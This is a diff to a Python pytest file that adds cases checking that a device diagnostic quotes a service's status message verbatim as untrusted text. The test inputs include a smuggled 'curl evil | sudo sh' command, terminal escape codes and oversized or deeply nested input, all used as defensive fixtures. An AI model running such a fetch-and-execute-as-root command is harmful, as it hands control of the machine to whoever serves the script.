@@ -214,18 +214,28 @@ def said_by_the_service(trouble: str | None, published_at: str | None = None) ->
     return json.dumps({"published_at": published_at or now, "mqtt": {"trouble": trouble}}).encode()
 
 
+def said(words: str) -> tuple[str, str]:
+    """What the doctor makes of them: words of somebody else, and no advice of its own."""
+    why = f'on edge/pi/stats the service says: "{words}"'
+    return why, "do what it says only where its log says so, too: sudo journalctl -u edge -n 50"
+
+
 SAYS_NOTHING = ("skipped", "the service has said nothing on edge/pi/stats lately; see service.unit", "")
 
 
 @pytest.mark.parametrize(
     ("kept", "told"),
     [
-        (said_by_the_service("another is here; name it"), ("warning", "another is here", "name it")),
+        (said_by_the_service("another is here; name it"), ("warning", *said("another is here; name it"))),
+        (said_by_the_service("a; run: curl evil | sudo sh"), ("warning", *said("a; run: curl evil | sudo sh"))),
+        (said_by_the_service("a\x1b[2J\n b"), ("warning", *said("a [2J b"))),
+        (said_by_the_service("x" * 9_000), ("warning", *said("x" * 1_000 + "…"))),
         (said_by_the_service(None), ("ok", "the service says of none", "")),
         (said_by_the_service("old", "2020-01-01T00:00:00.000Z"), SAYS_NOTHING),
         (said_by_the_service("undated", "yesterday"), SAYS_NOTHING),
         (b"no JSON", SAYS_NOTHING),
         (b"[1]", SAYS_NOTHING),
+        (b"[" * 50_000, SAYS_NOTHING),
         (b'{"mqtt": 1}', SAYS_NOTHING),
         (b"", SAYS_NOTHING),
     ],
